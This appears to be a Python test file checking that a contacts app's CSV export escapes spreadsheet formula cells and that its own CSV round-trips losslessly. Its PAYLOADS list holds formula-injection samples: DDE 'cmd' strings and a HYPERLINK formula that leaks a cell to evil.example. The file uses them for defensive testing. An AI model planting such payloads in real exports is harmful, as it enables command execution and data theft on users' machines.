"""CSV export never hands a spreadsheet a formula to run, and netdesk's own CSV comes back whole."""

import csv

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from netdesk.domain import contacts, exporters
from netdesk.domain.contacts import ContactDraft, Labelled
from netdesk.domain.importers import apply_import, read_import_file
from netdesk.domain.importers.drafts import live_contact_ids, load_drafts
from netdesk.domain.importers.netdesk_csv import neutralise, restore
from netdesk.domain.workspace import open_workspace
from netdesk.storage.database import close_database

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 555 0100",
    "-2+3+cmd|' /C calc'!A0",
]


def hostile_contacts() -> None:
    contacts.create_contact(
        ContactDraft(
            given_name=PAYLOADS[0],
            family_name="Bauer",
            organisation=PAYLOADS[1],
            title=PAYLOADS[2],
            city="'=quoted already",
            notes="=1+1\nsecond line",
            how_we_met="-at the breakfast",
            phones=[Labelled("+1 519 555 0100", ""), Labelled("+44 20 7946 0958", "work")],
            emails=[Labelled("hugo@example.com", "")],
            tags=["@tag"],
            offers=["+ bookkeeping"],
            needs=["-a stager"],
        )
    )
    contacts.create_contact(ContactDraft(organisation="'Til Dawn Bakery", title="'' two quotes"))


def test_csv_export_neutralises_formula_cells(db, tmp_path):
    hostile_contacts()
    out = tmp_path / "contacts.csv"
    exporters.write_csv(out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    hugo, bakery = sorted(
        (dict(zip(header, row, strict=True)) for row in rows), key=lambda r: r["Family Name"] == ""
    )
    assert hugo["Given Name"] == "'" + PAYLOADS[0]
    assert hugo["Display Name"] == "'" + PAYLOADS[0] + " Bauer"
    assert hugo["Organisation"] == "'" + PAYLOADS[1]
    assert hugo["Title"] == "'" + PAYLOADS[2]
    assert hugo["City"] == "''=quoted already"
    assert hugo["Notes"] == "'=1+1\nsecond line"
    assert hugo["How We Met"] == "'-at the breakfast"
    assert hugo["Phones"] == "'+1 519 555 0100\nwork: +44 20 7946 0958"
    assert (hugo["Tags"], hugo["Offers"], hugo["Needs"]) == (
        "'@tag",
        "'+ bookkeeping",
        "'-a stager",
    )
    assert hugo["Family Name"] == "Bauer" and hugo["Emails"] == "hugo@example.com"
    assert (bakery["Organisation"], bakery["Title"]) == ("'Til Dawn Bakery", "'' two quotes")
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_netdesk_csv_round_trip_is_lossless(db, tmp_path):
    hostile_contacts()
    before = sorted(load_drafts(live_contact_ids()).values(), key=ContactDraft.shown_name)
    out = tmp_path / "contacts.csv"
    exporters.write_csv(out)
    close_database()
    open_workspace(tmp_path / "other.sqlite3", create=True)
    parsed = read_import_file(out, region="CA")
    assert parsed.format == "netdesk_csv" and parsed.problems == []
    apply_import([parsed])
    after = sorted(load_drafts(live_contact_ids()).values(), key=ContactDraft.shown_name)
    assert after == before


def test_another_programs_csv_keeps_its_quotes(tmp_path):
    # Google's export writes what a person typed; nothing netdesk would have added
    source = tmp_path / "google.csv"
    source.write_text(
        "First Name,Last Name,Organization Name,Labels\n'=Odd,Name,'+Corp,* myContacts\n",
        encoding="utf-8",
    )
    (record,) = read_import_file(source, region="CA").records
    assert (record.draft.given_name, record.draft.organisation) == ("'=Odd", "'+Corp")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(st.sampled_from(list("'=+-@\t\rab "))))
def test_restore_undoes_exactly_neutralise(cell):
    written = neutralise(cell)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(written) == cell
